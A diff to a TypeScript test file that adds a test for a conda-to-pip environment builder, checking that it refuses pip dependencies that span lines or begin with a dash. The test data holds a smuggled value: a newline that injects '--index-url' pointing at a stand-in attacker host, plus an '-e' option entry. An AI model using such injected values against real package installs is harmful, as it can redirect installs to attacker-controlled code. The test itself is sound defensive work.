@@ -6,6 +6,8 @@ import path from 'node:path';
 import { after, before, test } from 'node:test';
 import type { JobEvent } from '../../core/api/contracts';
 import { pipPlanFor, pipRequirementFor } from '../../core/env/conda-pip';
+import { HostEnvironmentBuilder } from '../../core/env/host-env';
+import { tempDir } from '../support/temp';
 import { waitFor } from '../support/docker';
 import { COMMAND_SCHEMA, logText, startPlane, statuses, workspace, type Plane } from '../support/control-plane';
 
@@ -167,4 +169,13 @@ test('conda packages become pip requirements only when pinned', () => {
   const plan = pipPlanFor('dependencies:\n  - python=3.10\n  - pip=24.0\n  - numpy=1.26.4\n  - pip:\n      - pandas==2.2.2\n');
   assert.deepEqual(plan, { requirements: ['pandas==2.2.2', 'numpy==1.26.4.*'], translated: [{ conda: 'numpy=1.26.4', pip: 'numpy==1.26.4.*' }], pythonVersion: '3.10' });
   assert.throws(() => pipPlanFor('dependencies:\n  - scipy\n'), /conda packages without a version pin \(scipy\).*pin them \(e\.g\. numpy=1\.26\) or move them to the pip: list/);
+});
+
+test('a conda entry spanning lines or read by pip as an option is refused before a host environment is built', async (t) => {
+  const root = await tempDir(t, 'mlw-host-env-');
+  const builder = new HostEnvironmentBuilder({ root });
+  const refused = async (conda: string, message: RegExp) => assert.rejects(builder.ensure({ condaInline: conda }), message);
+  await refused('dependencies:\n  - pip:\n      - "mlwtiny==1.0\\n--index-url http://attacker.invalid/simple"\n', /conda file: pip dependency `mlwtiny==1\.0\\n--index-url .*` contains a control character \(U\+000A at position 13\)/);
+  await refused('dependencies:\n  - pip:\n      - -e /tmp/elsewhere\n', /conda file: pip dependency `-e \/tmp\/elsewhere` starts with `-`, which pip reads as an option/);
+  assert.deepEqual(fs.readdirSync(root), [], 'nothing was built');
 });
